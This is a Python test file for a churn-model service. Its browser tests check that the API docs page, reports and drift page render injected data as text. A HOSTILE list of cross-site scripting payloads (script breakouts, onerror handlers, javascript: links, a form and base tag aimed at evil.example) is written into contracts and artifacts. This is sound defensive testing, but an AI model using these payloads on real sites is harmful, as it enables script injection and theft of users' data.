"""What people look at, in a real browser: /docs answers when its example is pressed, the report shows its pictures.

And whatever data, contract or requests hold, it is text there.
"""

import json
import shutil
from collections.abc import Collection, Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import TASKS, Render, run
from markdown_it import MarkdownIt
from playwright.sync_api import Page, sync_playwright
from service import Service

pytestmark = pytest.mark.slow
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]


@pytest.fixture
def page() -> Iterator[Page]:
    browser_path = shutil.which("chromium")
    assert browser_path, "Chromium is needed: apt-get install chromium"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=browser_path, args=ARGUMENTS)
        yield browser.new_page(viewport={"width": 1200, "height": 1600})
        browser.close()


def test_the_example_in_docs_works_when_pressed(trained: Render, page: Page, tmp_path: Path) -> None:
    with Service(trained(task="classification"), tmp_path / "log.db") as service:
        page.goto(f"{service.url}/docs")
        for path in ("/predict", "/predict/batch", "/explain", "/v2/models/{name}/infer"):
            block = page.locator(".opblock-post").filter(has=page.locator(f'[data-path="{path}"]'))
            block.locator(".opblock-summary").click()
            block.get_by_role("button", name="Try it out").click()
            block.get_by_role("button", name="Execute").click()
            answer = block.locator(".live-responses-table .response").first
            answer.wait_for()
            assert "200" in answer.inner_text() and "probabilities" in answer.inner_text(), path
        page.screenshot(path=tmp_path / "docs.png")
        assert not page.locator(".errors-wrapper").count()


@pytest.mark.parametrize("task", TASKS)
def test_the_report_shows_its_pictures(trained: Render, page: Page, tmp_path: Path, task: str) -> None:
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url))
    page.goto((trained(task=task) / "artifacts/report/report.html").as_uri())
    page.screenshot(path=tmp_path / "report.png", full_page=True)
    widths = page.eval_on_selector_all("img", "images => images.map(image => image.naturalWidth)")
    assert len(widths) >= 3 and all(width > 100 for width in widths)
    assert not [url for url in outside if url.startswith("http")]
    overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert overflow <= 0, "the page is wider than the window"


RAN = "console.log('ran')"
HOSTILE = (
    f"</script></title></style></textarea><script data-hostile>{RAN}</script>",
    f"<!--<script>{RAN}--><script data-hostile>{RAN}</script>",
    f'"><img data-hostile src=x onerror="{RAN}">',
    f'\'><svg data-hostile onload="{RAN}"></svg>',
    f"'-{RAN}-'",
    f'"-{RAN}-"',
    f"\\'-{RAN}//",
    f"`${{{RAN}}}`",
    f"</script>\u2028{RAN}//\u2029",
    f'<iframe data-hostile srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<a data-hostile href="javascript:{RAN}">here</a>',
    f'[here](javascript:{RAN}) ![here](x"onerror="{RAN})',
    f"<javascript:{RAN}> <data:text/html,<script>{RAN}</script>>",
    f"</body><body data-hostile onload={RAN}>",
    "<form data-hostile action=//evil.example><input name=key></form><base data-hostile href=//evil.example/>",
    "<style data-hostile>*{display:none}</style>$\\frac{ & \x00 \u202e",
)


@pytest.fixture
def watched(page: Page) -> Iterator[Page]:
    """A page on which no script of the data runs, no element of it stands, and from which nothing is fetched."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("dialog", lambda dialog: said.append("ran"))
    yield page
    for link in page.locator("a").all():
        assert not (link.get_attribute("href") or "").lstrip().lower().startswith(("javascript:", "data:", "vbscript:"))
    assert not page.locator("[data-hostile]").count(), page.locator("[data-hostile]").first.evaluate("e => e.outerHTML")
    assert "ran" not in said


DRIFT = """
import sys
from pathlib import Path
from types import SimpleNamespace
import pyarrow as pa, pyarrow.parquet as pq
from customer_model.engineroom.contract import parse
from customer_model.engineroom.monitoring.drifting import compare
from customer_model.engineroom.settings import DriftParams

hostile, names, folder = HOSTILE, HOSTILE[:8], Path(sys.argv[1])
levels = [*hostile, *(text.translate(str.maketrans("<>", "＜＞")) for text in hostile)]
columns = {
    "level": ["known"] * 400 + levels * 5,
    "gone": [1.0] * (400 + 5 * len(levels)),
} | {name: [number % 7 + 0.5 for number in range(400 + 5 * len(levels))] for name in names}
pq.write_table(pa.table(columns), folder / "reference.parquet")
feature = {"type": "number"}
contract = parse({
    "problem": {"name": hostile[0]}, "source": {"path": "x"}, "target": {"name": "y", "kind": "continuous"},
    "columns": {"y": {"type": "number", "role": "target"}} | {name.strip(): feature for name in columns},
}, "made")
bundle = SimpleNamespace(path=folder, contract=contract, manifest=SimpleNamespace(model_version=hostile[0]))
size = 50 * len(hostile)
window = {"level": list(hostile) * 50, "gone": [None] * size}
window |= {name: [3.5 + row % 3 for row in range(size)] for name in names}
found = compare(window, bundle, DriftParams(), folder)
assert found["drift"] and found["gone"] == ["gone"]
assert set(found["distances"]) == {"level", *names} and "level" in found["drifted"]
"""


def test_no_script_of_the_data_runs_in_the_page_of_drift(trained: Render, watched: Page, tmp_path: Path) -> None:
    run(trained(), "python", "-c", DRIFT.replace("HOSTILE", ascii(HOSTILE)), str(tmp_path))
    watched.goto((tmp_path / "drift.html").as_uri())
    for button in ("tbody tr button", "tbody tr [role=tab]"):  # charts are drawn when they are asked for
        watched.locator(button).nth(8).wait_for()
        watched.evaluate("buttons => document.querySelectorAll(buttons).forEach(button => button.click())", button)
        watched.locator(".js-plotly-plot").nth(8).wait_for()
    watched.screenshot(path=tmp_path / "drift.png", full_page=True)
    assert "＜img data-hostile" in watched.content()


def spoiled(value: Any, kept: Collection[str], texts: Iterator[str]) -> Any:
    """A JSON document with markup in each of its texts, but for those that others are found by."""
    if isinstance(value, dict):
        return {key: spoiled(each, kept, texts) for key, each in value.items()}
    if isinstance(value, list):
        return [spoiled(each, kept, texts) for each in value]
    return value + next(texts) if isinstance(value, str) and value not in kept else value


def spoil_contract(project: Path, texts: Iterator[str]) -> None:
    """Markup wherever a contract has free text, in names of columns and in levels."""
    contract = yaml.safe_load((project / "contract.yaml").read_text())
    for key in ("name", "goal", "decision", "owner", "scope", "risks"):
        contract["problem"][key] = spoiled(contract["problem"][key], (), texts)
    for column in contract["columns"].values():
        column |= {"description": next(texts), "unit": next(texts)}
    contract["columns"]["gender"]["allowed"] = [*contract["columns"]["gender"]["allowed"], *HOSTILE]
    contract["columns"] = {COLUMN if name == "city" else name: each for name, each in contract["columns"].items()}
    contract["eligibility"][0]["reason"] = next(texts)
    contract["costs"]["currency"] = next(texts)
    (project / "contract.yaml").write_text(yaml.safe_dump(contract, sort_keys=False), encoding="utf-8")


COLUMN = HOSTILE[2]
FACTS = ("ingest", "validation", "split", "tuning", "training", "evaluation", "gate", "candidate/bundle")


def test_no_script_of_the_data_runs_in_the_report(trained_copy: Render, watched: Page, tmp_path: Path) -> None:
    """Nor in what a reader of Markdown makes of the model card and the data dictionary."""
    project, texts = trained_copy(), cycle(HOSTILE)
    spoil_contract(project, texts)
    for name in FACTS:
        file = project / f"artifacts/{name}.json"
        facts = json.loads(file.read_text())
        kept = {facts.get("metric"), facts.get("chosen"), facts.get("decision", {}).get("kind"), "", "roc_auc"}
        file.write_text(json.dumps(spoiled(facts, kept, texts)))
    run(project, "python", "-m", "customer_model.pipeline.report")
    report, markdown = project / "artifacts/report", MarkdownIt("commonmark", {"html": True}).enable("table")
    for name in ("model_card.md", "data_dictionary.md"):
        (report / name).with_suffix(".html").write_text(markdown.render((report / name).read_text()), encoding="utf-8")
    for page in sorted(report.glob("*.html")):
        watched.goto(page.as_uri())
        assert "<img data-hostile src=x" in watched.inner_text("body"), page
        assert not watched.locator("body img:not([src^='data:image/png;base64,'])").count(), page


SAVE = """
import json, sys
from pathlib import Path
from customer_model.engineroom import bundle
from customer_model.engineroom import contract
from customer_model.engineroom.encoding import load_encoder

path = Path("artifacts/bundle")
manifest = json.loads((path / "bundle.json").read_text().replace('"city"', json.dumps(sys.argv[1])))
encoder = (path / "encoder.json").read_text().replace('"city"', json.dumps(sys.argv[1]))
manifest["contract_digest"] = contract.load().digest
bundle.save(path, contract.PATH, load_encoder(encoder.encode()), bundle.Manifest.model_validate(manifest))
"""


EXPAND = "[...document.querySelectorAll('button')].filter(b => b.innerText == 'Expand all').forEach(b => b.click())"


def test_no_script_of_the_data_runs_in_docs(trained_copy: Render, watched: Page, tmp_path: Path) -> None:
    project = trained_copy()
    spoil_contract(project, cycle(HOSTILE))
    run(project, "python", "-c", SAVE, COLUMN)
    with Service(project, tmp_path / "log.db", SERVICE_ALLOW_FAILED_GATE="1") as service:
        watched.goto(f"{service.url}/docs")
        for path in ("/predict", "/predict/batch"):
            block = watched.locator(".opblock").filter(has=watched.locator(f'[data-path="{path}"]'))
            block.locator(".opblock-summary").click()
            block.get_by_role("button", name="Try it out").click()
            block.get_by_role("button", name="Execute").click()
            block.locator(".live-responses-table .response").first.wait_for()
            block.get_by_text("Schema", exact=True).first.click()
            if path == "/predict":
                block.get_by_text("Expand all").first.wait_for()
                watched.evaluate(EXPAND)
                block.get_by_text("(not used by the model)").first.wait_for()
                said = block.inner_text()
                assert "<iframe data-hostile" in said and "[here](javascript:" in said and '"><img data-hostile' in said
        watched.screenshot(path=tmp_path / "docs.png", full_page=True)
        assert watched.title().startswith("Customer churn</script>")
